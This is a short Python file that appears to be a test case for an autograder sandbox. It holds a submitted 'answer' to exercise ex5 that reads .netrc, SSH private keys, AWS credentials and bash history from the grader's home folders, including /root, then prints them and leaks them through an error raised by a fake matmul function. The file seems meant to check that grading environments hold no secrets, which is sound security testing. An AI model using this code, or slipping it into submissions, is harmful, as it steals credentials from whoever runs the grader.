"""Reads keys and passwords out of the home folder of whoever grades.

The home folder is empty, or not there.
"""

AIM = "secrets"
ANSWERS = {
    "ex5": """
import os
import pwd
from pathlib import Path

texts = []
for home in {"@HOME@", os.path.expanduser("~"), pwd.getpwuid(os.getuid()).pw_dir, "/root"}:
    for name in (".netrc", ".ssh/id_ed25519", ".aws/credentials", ".bash_history"):
        try:
            texts.append(Path(home, name).read_text())
        except (OSError, RuntimeError):
            pass
print(texts)


def matmul(a, b):
    raise ValueError(texts)
"""
}
